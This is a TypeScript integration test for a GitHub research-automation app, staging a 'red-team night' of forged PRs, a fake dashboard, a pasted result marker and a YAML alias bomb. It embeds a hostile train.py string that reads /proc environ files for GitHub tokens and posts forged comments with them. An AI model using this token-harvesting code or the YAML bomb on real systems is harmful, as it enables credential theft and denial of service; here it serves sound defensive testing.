// A night with attackers in it: a fork, a triage user, a write user, a pasted marker, a hostile
// config. Afterwards only the app's own, trained, dispatched experiments count, and every
// forgery is named on the dashboard.
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { checkTrust } from "../../sandbox/trust-invariants.js";
import { renderResultMarker } from "../../src/core/result-marker.js";
import { type RunState, renderRunBlock } from "../../src/core/run-state.js";
import { renderStateBlock, stateBlock, withStateBlock } from "../../src/core/state-block.js";
import { DASHBOARD_LABEL } from "../../src/github/run-issues.js";
import {
  CONFIG_FILE,
  ledgerRows,
  type Scenario,
  setConstants,
  startPastBaseline,
  startScenario,
  stopChecked,
  TINY_TRAIN_PY,
  tinyConfigYaml,
} from "../support/app-scenarios.js";
import { forgedKeep, okResult } from "../support/fixtures.js";

const TAG = "r";
const RUN_BRANCH = `autoresearch/${TAG}`;

/** Where the hostile train.py writes every token it found (one JSON list per training). */
const HOSTILE_OUT = join(mkdtempSync(join(tmpdir(), "ar-red-team-")), "found.jsonl");

/**
 * Training code as an attacker would write it: look through every process of this sandbox it
 * can read for a GitHub token, and with any it finds post a forged result on another PR.
 */
const HOSTILE_PREFIX = `
import json as _j, os as _o, re as _r, urllib.request as _u
_found = []
for _pid in filter(str.isdigit, _o.listdir("/proc")):
    try:
        _env = open(f"/proc/{_pid}/environ", "rb").read().decode("latin1")
    except OSError:
        continue
    # This night's processes only: on a shared test machine other sandboxes run too (and on a
    # real box, other runners of the same user would be in reach: see the README).
    if ("GITHUB_API_URL=" + _o.environ.get("GITHUB_API_URL", "?") + "\\x00") not in _env:
        continue
    for _m in _r.finditer(r"(?:INPUT_GITHUB-TOKEN|GITHUB_TOKEN|ACTIONS_RUNTIME_TOKEN)=([^\\x00]+)|(gh[spu]_\\w+)", _env):
        _found.append(_m.group(1) or _m.group(2))
with open(_o.environ["HOSTILE_OUT"], "a") as _f:
    _f.write(_j.dumps(_found) + "\\n")
for _t in _found:
    try:
        _u.urlopen(_u.Request(
            _o.environ.get("GITHUB_API_URL", "") + "/repos/" + _o.environ.get("GITHUB_REPOSITORY", "") + "/issues/3/comments",
            data=_j.dumps({"body": "<!-- autoresearch:result {} -->"}).encode(),
            headers={"Authorization": "token " + _t, "Content-Type": "application/json"},
        ), timeout=5)
    except Exception:
        pass
`;

let s: Scenario;
beforeAll(async () => {
  s = await startScenario({
    runnerEnv: { HOSTILE_OUT },
    config: { proposer: "none" },
    sandbox: { users: [{ login: "trudy", role: "triage" }] },
  });
  await startPastBaseline(s, TAG);
}, 150_000);
afterAll(() => stopChecked(s));

const repo = () => ({ owner: s.sandbox.repo.owner, repo: s.sandbox.repo.name });

describe("a red-team night", { timeout: 400_000 }, () => {
  it("counts only what the app dispatched and trained, and names every forgery", async () => {
    const baseline = s.experiments(TAG)[0].state;
    const named: number[] = [];

    // 1. A hostile config on the default branch: a problem on the file, never a crashed pass.
    const nine = (item: string) => Array(9).fill(item).join(", ");
    const bomb = [`l0: &l0 [${nine('"lol"')}]`];
    for (let i = 1; i <= 9; i++) bomb.push(`l${i}: &l${i} [${nine(`*l${i - 1}`)}]`);
    await s.sandbox.human.push(
      "main",
      { [CONFIG_FILE]: `${tinyConfigYaml({ proposer: "none" })}${bomb.join("\n")}\n` },
      "laugh",
    );
    // A config push on the default branch takes effect at once (no heartbeat needed).
    await s.sandbox.settle({ timeoutMs: 60_000 });
    const configIssue = s.sandbox.state
      .issues()
      .find((i) => i.labels.includes("autoresearch:config") && i.state === "open");
    expect(configIssue?.body).toContain("alias");
    await s.sandbox.human.push(
      "main",
      { [CONFIG_FILE]: tinyConfigYaml({ proposer: "none" }) },
      "fix",
    );
    await s.sandbox.settle({ timeoutMs: 60_000 });
    const mainSha = (await s.sandbox.git.sha("main"))!;
    const runHead = await s.sandbox.git.sha(RUN_BRANCH);

    // 2. A fork PR into the run branch carrying a hand-written decided-keep block.
    const evilBranch = `${RUN_BRANCH}--9-evil`;
    await s.sandbox.fork.push(evilBranch, { "train.py": `${TINY_TRAIN_PY}\n# evil\n` }, "evil");
    const forkPr = await s.sandbox.human.openPull(
      {
        head: `mallory:${evilBranch}`,
        base: RUN_BRANCH,
        title: "a great idea",
        body: `Trust me.\n\n${renderStateBlock(forgedKeep({ ...baseline, n: 9 }, 1), "f".repeat(64))}`,
      },
      "mallory",
    );
    named.push(forkPr);

    // 3. A fork PR closed at once, claiming a kept record val_bpb.
    await s.sandbox.fork.push(
      `${RUN_BRANCH}--10-ghost`,
      { "train.py": `${TINY_TRAIN_PY}\n# ghost\n` },
      "ghost",
    );
    const ghostPr = await s.sandbox.human.openPull(
      {
        head: `mallory:${RUN_BRANCH}--10-ghost`,
        base: RUN_BRANCH,
        title: "ghost",
        body: renderStateBlock(forgedKeep({ ...baseline, n: 10, description: "ghost" }, 1), null),
      },
      "mallory",
    );
    await s.sandbox
      .octokit("mallory")
      .rest.pulls.update({ ...repo(), pull_number: ghostPr, state: "closed" });
    named.push(ghostPr);

    // 4. A triage user's look-alike dashboard pointing the run at main and at another gist.
    const real = s.run(TAG)!;
    const fake: RunState = { ...real, branch: "main", gist_id: "evil" };
    const { data: fakeDashboard } = await s.sandbox.octokit("trudy").rest.issues.create({
      ...repo(),
      title: `autoresearch run ${TAG}`,
      body: renderRunBlock(fake, null),
      labels: [DASHBOARD_LABEL],
    });
    named.push(fakeDashboard.number);

    // 5. A real experiment: while it trains, a write user edits its verdict to keep and pastes a marker.
    const branch = `${RUN_BRANCH}--lr1`;
    s.closeGate(branch);
    try {
      await s.pushExperiment(
        TAG,
        "lr1",
        { "train.py": setConstants({ LEARNING_RATE: "1.0" }) },
        "LEARNING_RATE 8.0 → 1.0",
      );
      await s.waitFor(
        "the experiment to train",
        () => s.experimentFor(TAG, branch)?.state.phase === "training",
        90_000,
      );
      const { pr } = s.experimentFor(TAG, branch)!;
      const read = stateBlock.read(pr.body)!;
      await s.sandbox.human.editBody(
        pr.number,
        withStateBlock(pr.body ?? "", forgedKeep(read.value, pr.number), read.mac),
      );
      const run = s.runsFor(branch)[0];
      const marker = okResult({
        val_bpb: 0.4,
        pr: pr.number,
        head_sha: read.value.head_sha,
        run_id: String(run.id),
      });
      await s.sandbox.human.comment(pr.number, `done!\n\n${renderResultMarker(marker)}`);
      named.push(pr.number);
    } finally {
      s.openGate(branch);
    }
    await s.waitFor(
      "the experiment to be decided from its own training",
      () =>
        s.experimentFor(TAG, branch)?.pr.state === "closed" &&
        ledgerRows(s.ledger(TAG)).length === 2,
      200_000,
    );
    await s.command(TAG, "/autoresearch status");
    await s.sandbox.settle({ timeoutMs: 60_000 });

    // 6. Training code that hunts for tokens in /proc and would post a forged result with one.
    const hostile = `${RUN_BRANCH}--hostile`;
    await s.pushExperiment(
      TAG,
      "hostile",
      { "train.py": (py) => py.replace(/^import math$/m, `${HOSTILE_PREFIX}\nimport math`) },
      "a hostile train.py",
    );
    await s.waitFor(
      "the hostile experiment to be decided",
      () => s.experimentFor(TAG, hostile)?.pr.state === "closed",
      150_000,
    );
    await s.sandbox.settle({ timeoutMs: 60_000 });
    const scans = readFileSync(HOSTILE_OUT, "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(scans.length).toBeGreaterThan(0);
    expect(scans.flat()).toEqual([]);
    const baselinePr = s.experiments(TAG)[0].pr.number;
    expect(
      s.sandbox.state.comments(baselinePr).some((c) => c.body.includes("autoresearch:result {}")),
    ).toBe(false);

    // Afterwards.
    const trust = await checkTrust(s.sandbox, TAG, {
      mainSha,
      mustBeNamed: named.filter((n) => n !== s.experimentFor(TAG, branch)!.pr.number),
      workflowPath: ".github/workflows/autoresearch.yml",
    });
    expect(trust.problems).toEqual([]);
    expect(trust.foreign.sort()).toEqual([forkPr, ghostPr].sort());
    expect(s.appComments(forkPr).map((c) => c.body)).toEqual([
      expect.stringContaining("forks never reach"),
    ]);
    expect(s.runsFor(evilBranch)).toEqual([]);
    expect(await s.sandbox.git.sha(RUN_BRANCH)).toBe(runHead);
    const rows = ledgerRows(s.ledger(TAG));
    expect(rows.map((r) => r[4])).toEqual([
      "baseline",
      "LEARNING_RATE 8.0 → 1.0",
      "a hostile train.py",
    ]);
    expect(rows[1][3]).toBe("discard");
    expect(rows.map((r) => r[1])).not.toContain("0.500000");
    expect(rows.map((r) => r[1])).not.toContain("0.400000");
    expect(s.run(TAG)?.branch).toBe(RUN_BRANCH);
    const edited = s.experimentFor(TAG, branch)!;
    expect(edited.pr.pull_request?.merged).toBe(false);
    // Decided by the run dispatched after its block was found edited, never by the pasted marker.
    expect(s.runsFor(branch)).toHaveLength(2);
    expect(edited.state.run_id).toBe(s.runsFor(branch).at(-1)?.id);
  });
});
